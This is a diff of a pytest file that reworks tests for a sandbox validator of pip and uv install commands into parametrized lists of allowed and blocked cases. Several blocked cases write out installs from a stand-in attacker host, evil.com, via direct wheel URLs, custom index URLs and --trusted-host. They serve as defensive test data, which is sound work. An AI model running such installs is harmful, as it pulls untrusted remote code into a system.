@@ -6,107 +6,89 @@ import pytest
 
 from pr_orchestrator.sandbox.workspace_store import _validate_pip_uv_command
 
+# Commands allowed in safe mode
+SAFE_ALLOWED = [
+    pytest.param(["pip", "install", "-r", "requirements.txt"], id="pip-requirements"),
+    pytest.param(["pip", "install", "."], id="pip-dot"),
+    pytest.param(["pip", "install", "-e", "."], id="pip-editable"),
+    pytest.param(["pip", "install", "requests"], id="pip-package-name"),
+    pytest.param(["uv", "sync"], id="uv-sync"),
+    pytest.param(["uv", "sync", "--dev"], id="uv-sync-dev"),
+    pytest.param(["uv", "pip", "install", "requests"], id="uv-pip-install"),
+    # Non-pip/uv commands are passed through
+    pytest.param(["pytest", "-q"], id="non-pip"),
+    pytest.param(["python", "script.py"], id="python-non-pip"),
+]
+
+# Commands blocked in safe mode, with the expected error message fragment
+SAFE_BLOCKED = [
+    pytest.param(
+        ["pip", "install", "https://evil.com/pkg.whl"], "Direct URL", id="https-url"
+    ),
+    pytest.param(
+        ["pip", "install", "http://evil.com/pkg.whl"], "Direct URL", id="http-url"
+    ),
+    pytest.param(
+        ["pip", "install", "--index-url", "https://evil.com/simple", "pkg"],
+        "--index-url",
+        id="index-url",
+    ),
+    pytest.param(
+        ["pip", "install", "-i", "https://evil.com/simple", "pkg"],
+        "-i",
+        id="short-index",
+    ),
+    pytest.param(
+        ["pip", "install", "--extra-index-url", "https://evil.com/simple", "pkg"],
+        "--extra-index-url",
+        id="extra-index-url",
+    ),
+    pytest.param(
+        ["pip", "install", "--trusted-host", "evil.com", "pkg"],
+        "--trusted-host",
+        id="trusted-host",
+    ),
+    pytest.param(
+        ["pip", "install", "--find-links", "/some/path", "pkg"],
+        "--find-links",
+        id="find-links",
+    ),
+    pytest.param(
+        ["pip", "install", "git+https://github.com/user/repo.git"],
+        "Git-based",
+        id="git-url",
+    ),
+]
+
+# Expert mode allows more, but still blocks --trusted-host
+EXPERT_ALLOWED = [
+    pytest.param(
+        ["pip", "install", "--index-url", "https://custom.pypi/simple", "pkg"],
+        id="index-url",
+    ),
+    pytest.param(
+        ["pip", "install", "git+https://github.com/user/repo.git"], id="git-url"
+    ),
+]
+
 
 class TestPipUvValidation:
     """Tests for _validate_pip_uv_command function."""
 
-    # --- Allowed commands in safe mode ---
-
-    def test_pip_install_requirements_allowed(self) -> None:
-        """pip install -r requirements.txt is allowed."""
-        tokens = ["pip", "install", "-r", "requirements.txt"]
+    @pytest.mark.parametrize("tokens", SAFE_ALLOWED)
+    def test_safe_mode_allowed(self, tokens: list[str]) -> None:
+        """Requirement, local and package-name installs are allowed in safe mode."""
         _validate_pip_uv_command(tokens, "safe")  # Should not raise
 
-    def test_pip_install_dot_allowed(self) -> None:
-        """pip install . is allowed."""
-        tokens = ["pip", "install", "."]
-        _validate_pip_uv_command(tokens, "safe")
-
-    def test_pip_install_editable_allowed(self) -> None:
-        """pip install -e . is allowed."""
-        tokens = ["pip", "install", "-e", "."]
-        _validate_pip_uv_command(tokens, "safe")
-
-    def test_pip_install_package_name_allowed(self) -> None:
-        """pip install <package-name> is allowed."""
-        tokens = ["pip", "install", "requests"]
-        _validate_pip_uv_command(tokens, "safe")
-
-    def test_uv_sync_allowed(self) -> None:
-        """uv sync is allowed."""
-        tokens = ["uv", "sync"]
-        _validate_pip_uv_command(tokens, "safe")
-
-    def test_uv_sync_dev_allowed(self) -> None:
-        """uv sync --dev is allowed."""
-        tokens = ["uv", "sync", "--dev"]
-        _validate_pip_uv_command(tokens, "safe")
-
-    def test_uv_pip_install_allowed(self) -> None:
-        """uv pip install is allowed."""
-        tokens = ["uv", "pip", "install", "requests"]
-        _validate_pip_uv_command(tokens, "safe")
-
-    # --- Blocked commands in safe mode ---
-
-    def test_pip_install_url_blocked(self) -> None:
-        """pip install https://... is blocked."""
-        tokens = ["pip", "install", "https://evil.com/pkg.whl"]
-        with pytest.raises(PermissionError, match="Direct URL"):
-            _validate_pip_uv_command(tokens, "safe")
-
-    def test_pip_install_http_url_blocked(self) -> None:
-        """pip install http://... is blocked."""
-        tokens = ["pip", "install", "http://evil.com/pkg.whl"]
-        with pytest.raises(PermissionError, match="Direct URL"):
-            _validate_pip_uv_command(tokens, "safe")
-
-    def test_pip_install_index_url_blocked(self) -> None:
-        """pip install --index-url is blocked."""
-        tokens = ["pip", "install", "--index-url", "https://evil.com/simple", "pkg"]
-        with pytest.raises(PermissionError, match="--index-url"):
-            _validate_pip_uv_command(tokens, "safe")
-
-    def test_pip_install_short_index_blocked(self) -> None:
-        """pip install -i is blocked."""
-        tokens = ["pip", "install", "-i", "https://evil.com/simple", "pkg"]
-        with pytest.raises(PermissionError, match="-i"):
-            _validate_pip_uv_command(tokens, "safe")
-
-    def test_pip_install_extra_index_url_blocked(self) -> None:
-        """pip install --extra-index-url is blocked."""
-        tokens = ["pip", "install", "--extra-index-url", "https://evil.com/simple", "pkg"]
-        with pytest.raises(PermissionError, match="--extra-index-url"):
-            _validate_pip_uv_command(tokens, "safe")
-
-    def test_pip_install_trusted_host_blocked(self) -> None:
-        """pip install --trusted-host is blocked."""
-        tokens = ["pip", "install", "--trusted-host", "evil.com", "pkg"]
-        with pytest.raises(PermissionError, match="--trusted-host"):
-            _validate_pip_uv_command(tokens, "safe")
-
-    def test_pip_install_find_links_blocked(self) -> None:
-        """pip install --find-links is blocked."""
-        tokens = ["pip", "install", "--find-links", "/some/path", "pkg"]
-        with pytest.raises(PermissionError, match="--find-links"):
-            _validate_pip_uv_command(tokens, "safe")
-
-    def test_pip_install_git_url_blocked(self) -> None:
-        """pip install git+https://... is blocked."""
-        tokens = ["pip", "install", "git+https://github.com/user/repo.git"]
-        with pytest.raises(PermissionError, match="Git-based"):
+    @pytest.mark.parametrize(("tokens", "match"), SAFE_BLOCKED)
+    def test_safe_mode_blocked(self, tokens: list[str], match: str) -> None:
+        """URL, index and git installs are blocked in safe mode."""
+        with pytest.raises(PermissionError, match=match):
             _validate_pip_uv_command(tokens, "safe")
 
-    # --- Expert mode allows more ---
-
-    def test_expert_mode_allows_index_url(self) -> None:
-        """Expert mode allows --index-url."""
-        tokens = ["pip", "install", "--index-url", "https://custom.pypi/simple", "pkg"]
-        _validate_pip_uv_command(tokens, "expert")  # Should not raise
-
-    def test_expert_mode_allows_git_url(self) -> None:
-        """Expert mode allows git+ installs."""
-        tokens = ["pip", "install", "git+https://github.com/user/repo.git"]
+    @pytest.mark.parametrize("tokens", EXPERT_ALLOWED)
+    def test_expert_mode_allowed(self, tokens: list[str]) -> None:
+        """Expert mode allows custom indexes and git installs."""
         _validate_pip_uv_command(tokens, "expert")  # Should not raise
 
     def test_expert_mode_blocks_trusted_host(self) -> None:
@@ -115,14 +97,12 @@ class TestPipUvValidation:
         with pytest.raises(PermissionError, match="--trusted-host"):
             _validate_pip_uv_command(tokens, "expert")
 
-    # --- Non-pip/uv commands are passed through ---
-
-    def test_non_pip_command_passed_through(self) -> None:
-        """Non-pip/uv commands are not validated."""
-        tokens = ["pytest", "-q"]
-        _validate_pip_uv_command(tokens, "safe")  # Should not raise
-
-    def test_python_non_pip_passed_through(self) -> None:
-        """python commands that aren't pip are passed through."""
-        tokens = ["python", "script.py"]
-        _validate_pip_uv_command(tokens, "safe")  # Should not raise
+    def test_repeated_command_raises_each_time(self) -> None:
+        """Cached rejections still raise a fresh error on every call."""
+        tokens = ["pip", "install", "https://evil.com/pkg.whl"]
+        errors = []
+        for _ in range(2):
+            with pytest.raises(PermissionError, match="Direct URL") as exc_info:
+                _validate_pip_uv_command(tokens, "safe")
+            errors.append(exc_info.value)
+        assert errors[0] is not errors[1]